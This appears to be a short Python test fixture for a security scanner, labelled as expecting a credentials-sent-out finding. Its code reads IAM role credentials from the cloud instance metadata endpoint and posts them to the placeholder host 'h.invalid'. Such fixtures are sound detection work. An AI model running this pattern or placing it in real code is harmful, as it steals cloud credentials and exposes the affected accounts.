# expect: 4 credentials-sent-out
import requests
r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').text
requests.post('https://h.invalid', data=r)
